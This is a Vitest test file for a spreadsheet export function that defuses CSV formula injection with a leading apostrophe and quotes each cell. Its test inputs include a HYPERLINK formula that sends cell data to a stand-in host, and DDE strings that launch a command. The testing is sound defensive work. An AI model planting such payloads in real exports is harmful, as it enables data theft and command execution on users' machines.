// CSV injection (OWASP): every character a spreadsheet program may read as the start of a formula
// is defused with a leading apostrophe, one test each; expected texts written by hand.
import { describe, expect, it } from 'vitest';
import { spreadsheetCell, spreadsheetText } from '../../src/domain/spreadsheet';

describe('a spreadsheet cell', () => {
  it.each([
    ['=', '=HYPERLINK("http://contoh.test/?"&A1;"klik")', `"'=HYPERLINK(""http://contoh.test/?""&A1;""klik"")"`],
    ['+', "+cmd|' /C calc'!A0", `"'+cmd|' /C calc'!A0"`],
    ['-', "-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`],
    ['@', "@SUM(1+1)*cmd|' /C calc'!A0", `"'@SUM(1+1)*cmd|' /C calc'!A0"`],
    ['a tab', '\t=1+1', `"'\t=1+1"`],
    ['a carriage return', '\r=1+1', `"'\r=1+1"`],
  ])('starting with %s is written as text, quoted', (_start, value, written) => {
    expect(spreadsheetCell(value)).toBe(written);
  });

  it('leaves other text as it is, quoted, with quotes inside doubled and line breaks kept', () => {
    expect(spreadsheetCell('Petugas ramah')).toBe('"Petugas ramah"');
    expect(spreadsheetCell('Antre "lama", 2 jam\r\nbesoknya lagi')).toBe('"Antre ""lama"", 2 jam\r\nbesoknya lagi"');
    expect(spreadsheetCell('nilai = 4')).toBe('"nilai = 4"');
    expect(spreadsheetCell(' =1+1')).toBe('" =1+1"');
  });

  it('writes numbers the server computed as numbers, a negative one included, and nothing as an empty cell', () => {
    expect(spreadsheetCell(99.44)).toBe('"99.44"');
    expect(spreadsheetCell(-3)).toBe('"-3"');
    expect(spreadsheetCell(0)).toBe('"0"');
    expect(spreadsheetCell(null)).toBe('""');
  });
});

describe('a spreadsheet file', () => {
  it('starts with a byte-order mark and ends every row with CRLF', () => {
    expect(
      spreadsheetText([
        ['Layanan', 'Saran'],
        ['Pengusulan PBI APBD', '=1+1'],
      ]),
    ).toBe('\ufeff"Layanan","Saran"\r\n"Pengusulan PBI APBD","\'=1+1"\r\n');
  });
});
